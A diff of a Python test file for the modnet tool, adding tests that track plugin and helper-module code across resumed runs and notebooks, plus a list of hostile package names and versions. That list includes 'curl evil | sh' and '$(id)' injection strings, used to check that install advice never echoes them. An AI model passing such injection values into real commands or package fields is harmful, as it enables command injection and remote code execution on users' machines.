@@ -2,17 +2,15 @@
 
 from __future__ import annotations
 
-import os
 import shutil
-import subprocess
-import sys
 from pathlib import Path
 
 import pytest
-from changing_plugins import DIARY, PLUGIN, install, install_drifting, modnet, to_format_1, train
+from changing_plugins import DIARY, PLUGIN, install, install_drifting, modnet, run_python, to_format_1, train
 
+from modnet.runs.missing_plugins import _advise
 from modnet.runs.receipt import Receipt
-from modnet.runs.surroundings import Segment
+from modnet.runs.surroundings import Origin, Segment
 
 
 def starts(folder: Path) -> list[int]:
@@ -177,11 +175,115 @@ path = Path("site/modnet_drifting.py")
 path.write_text(path.read_text() + "# mended")
 run("b")
 """
-    paths = os.pathsep.join(filter(None, (str(tmp_path / "site"), os.environ.get("PYTHONPATH"))))
-    known = {**os.environ, "PYTHONPATH": paths, "MODNET_CACHE": str(tmp_path / "cache")}
-    subprocess.run([sys.executable, "-c", script], cwd=tmp_path, env=known, check=True, timeout=120)
+    run_python(script, tmp_path).check_returncode()
     assert Receipt.read(tmp_path / "a").segments == Receipt.read(tmp_path / "b").segments
     assert "plugin    modnet-drifting" in modnet(tmp_path, "verify", "b").stdout
+
+
+class TestModules:
+    """Modules that are not installed: they are known with what they import from their folder."""
+
+    @pytest.fixture
+    def beside(self, tmp_path: Path) -> Path:
+        """Return a folder with a module, its helper, and a run that was killed after 20 iterations."""
+        source = PLUGIN.format(factor="helpers.FACTOR").replace("import modnet", "import modnet, helpers", 1)
+        (tmp_path / "mine.py").write_text(source)
+        (tmp_path / "helpers.py").write_text("FACTOR = 1\n")
+        options = ("--gradient", "drifting", "--hidden", "3", "--iterations", "40", "-p", "mine", "--out", "run")
+        modnet(tmp_path, "train", *options, KILLED_AT="20")
+        return tmp_path
+
+    def test_a_helper_that_was_mended_in_between(self, beside: Path) -> None:
+        (beside / "helpers.py").write_text("FACTOR = 2\n")
+        done = modnet(beside, "resume", "run", "-p", "mine")
+        assert (done.returncode, ": plugin mine, the code of mine: " in done.stderr) == (1, True), done.stderr
+        (beside / "helpers.py").write_text("FACTOR = 1\n")
+        (beside / "unrelated.py").write_text("FACTOR = 2\n")
+        done = modnet(beside, "resume", "run", "-p", "mine")
+        assert done.returncode == 0, done.stderr
+
+    def test_the_same_module_imported_by_python_is_the_same_code(self, beside: Path) -> None:
+        script = """
+import mine
+from modnet.compose.experiment import create_experiment
+from modnet.compose.plugins import load_plugins
+from modnet.runs.surroundings import Segment
+load_plugins(modules=["mine"])
+segment = Segment.create(create_experiment({"gradient": "drifting"}))
+print(next(origin.code_sha256 for origin in segment.plugins if origin.kind == "gradient"))
+"""
+        done = run_python(script, beside)
+        assert done.stdout.strip() == code(Receipt.read(beside / "run").latest), done.stderr
+
+    def test_a_class_that_was_mended_in_a_notebook(self, tmp_path: Path) -> None:
+        script = '''
+import modnet
+quick = {"gradient": "backpropagation", "network": {"activation": "scaled"}, "training": {"iterations": 5}}
+
+def define(factor):  # as a cell does
+    exec(f"""
+class Scaled(modnet.Activation):
+    def __call__(self, a, axis=-1):
+        return {factor} * a
+""", globals())
+    return modnet.register(Scaled)
+
+def compare(seeds):
+    modnet.compare(quick, {"hidden_size": [3, 4]}, seeds=seeds, out="runs")
+
+undo = define(1)
+compare(2)
+undo()
+undo = define(1)
+compare(3)
+undo()
+define(2)
+try:
+    compare(4)
+except modnet.DataError as error:
+    print(error)
+'''
+        done = run_python(script, tmp_path)
+        assert "the code of __main__: " in done.stdout, done.stderr
+        assert " in 6 runs (" in done.stdout
+
+
+HOSTILE = [
+    ("x; curl evil | sh", "1.0"),
+    ("x", "1.0; curl evil | sh"),
+    ("x", "$(id)"),
+    ("x && id", "1.0"),
+    ("-r evil.txt", "1.0"),
+    ("--index-url=evil", "1.0"),
+    ("x @ https", "1.0"),
+    ("x\n", "1.0"),
+    ("\u017f", "1.0"),
+    ("x", "\uff11.0"),
+    ("x\x1b[2J", "1.0"),
+    ("x" * 200, "1.0"),
+    ("x.", "1.0"),
+    ("x", "1.0 --pre"),
+    ("x; id", ""),
+    ("x -p y", ""),
+    ("x\n", ""),
+]
+
+
+@pytest.mark.parametrize(("distribution", "version"), HOSTILE)
+def test_a_receipt_gives_no_advice_but_plain_names_and_versions(distribution: str, version: str) -> None:
+    advice = _advise(Origin("activation", "gone", distribution, version, "x", ""))
+    assert advice.startswith("the activation 'gone' comes from ")
+    assert advice.endswith((", which is not installed", ", a module that was not installed as a plugin"))
+    assert advice.isprintable()
+    assert len(advice) < 300
+
+
+@pytest.mark.parametrize("version", ["1.0", "1.0rc1", "2!1.0.post1", "1.0+cu12"])
+def test_plain_names_and_versions_are_advised(version: str) -> None:
+    advice = _advise(Origin("activation", "gone", "Modnet_x.y-z", version, "x", ""))
+    assert advice.endswith(f", which is not installed: pip install Modnet_x.y-z=={version}")
+    advice = _advise(Origin("activation", "gone", "mine.parts", "", "mine", ""))
+    assert advice.endswith(": load it with -p mine.parts")
 
 
 class TestOlder:
